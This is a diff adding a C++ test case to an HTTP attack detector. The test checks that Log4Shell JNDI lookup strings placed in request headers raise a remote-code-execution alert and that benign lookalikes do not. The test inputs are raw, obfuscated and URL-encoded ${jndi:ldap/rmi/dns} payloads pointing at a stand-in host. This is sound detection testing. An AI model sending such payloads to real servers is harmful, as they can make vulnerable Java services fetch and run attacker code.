@@ -259,6 +259,28 @@ TEST_CASE("web attacks and listed user agents, the User-Agent's verdict remember
           std::vector<std::string>{"UA sqlmap/9 | lab tool (malware)"});
 }
 
+TEST_CASE("web attacks: Log4Shell in any header") {
+    detect::HttpHeuristicsConfig config;
+    config.attacks = std::make_shared<const detect::WebAttackPatterns>();
+    Fixture f(config);
+    const auto with = [&f](std::string header) {
+        return f.see("10.1.0.1", "10.1.0.80",
+                     "GET / HTTP/1.1\r\nHost: shop.example\r\n" + header + "\r\n\r\n");
+    };
+    for (const char* header :
+         {"X-Api-Version: ${jndi:ldap://10.9.0.1/a}", "Referer: ${${::-j}ndi:rmi://10.9.0.1/a}",
+          "Cookie: x=%24%7Bjndi%3Adns%3A%2F%2F10.9.0.1%2Fa%7D", "X-Forwarded-Host: ${ jndi :x}"}) {
+        const std::string text = header;
+        CAPTURE(text);
+        const auto alerts = with(text);
+        REQUIRE(alerts.size() == 1);
+        CHECK(alerts[0].info == "potential remote code execution (suspicious)");
+        CHECK(alerts[0].matched_field == "http.request_headers");
+    }
+    CHECK(with("X-Template: ${HOME} and ${user.name}").empty());
+    CHECK(with("Referer: http://shop.example/jndi-docs").empty());
+}
+
 TEST_CASE("web attacks: a form body is read, other bodies are not; SQL identifiers are no attack") {
     detect::HttpHeuristicsConfig config;
     config.attacks = std::make_shared<const detect::WebAttackPatterns>();
